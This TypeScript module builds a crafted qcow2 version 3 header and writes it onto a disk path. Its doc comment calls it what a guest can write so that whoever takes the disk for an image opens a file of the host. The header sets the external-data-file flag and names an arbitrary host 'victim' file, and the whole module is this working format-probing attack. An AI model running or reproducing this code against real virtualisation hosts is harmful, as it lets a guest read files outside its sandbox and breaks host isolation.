/**
 * What a guest can write onto its disk so that whoever takes that for an image opens a file of this machine.
 *
 * @module
 */
import { Buffer } from "node:buffer";
import { closeSync, openSync, writeSync } from "node:fs";

const CLUSTER = 1 << 16;

/** An image of qcow2 (version 3), of 1 MiB, whose data is in the file `victim`. */
export function writeHostileHead(disk: string, victim: string): void {
  const head = Buffer.alloc(CLUSTER);
  head.write("QFI\xfb", "latin1");
  head.writeUInt32BE(3, 4);
  head.writeUInt32BE(16, 20); // bits of a cluster
  head.writeBigUInt64BE(1n << 20n, 24);
  head.writeUInt32BE(1, 36); // entries in the table of tables, which is the fourth cluster
  head.writeBigUInt64BE(BigInt(3 * CLUSTER), 40);
  head.writeBigUInt64BE(BigInt(CLUSTER), 48); // counts of references
  head.writeUInt32BE(1, 56);
  head.writeBigUInt64BE(4n, 72); // it cannot be read without its data file
  head.writeUInt32BE(4, 96);
  head.writeUInt32BE(104, 100);
  const name = Buffer.from(victim);
  head.writeUInt32BE(0x44415441, 104); // the name of that
  head.writeUInt32BE(name.length, 108);
  name.copy(head, 112);
  const table = Buffer.alloc(CLUSTER);
  table.writeBigUInt64BE(BigInt(2 * CLUSTER));
  const counts = Buffer.alloc(CLUSTER);
  for (let cluster = 0; cluster < 4; cluster++) counts.writeUInt16BE(1, 2 * cluster);
  const file = openSync(disk, "r+");
  try {
    writeSync(file, Buffer.concat([head, table, counts, Buffer.alloc(CLUSTER)]), 0);
  } finally {
    closeSync(file);
  }
}
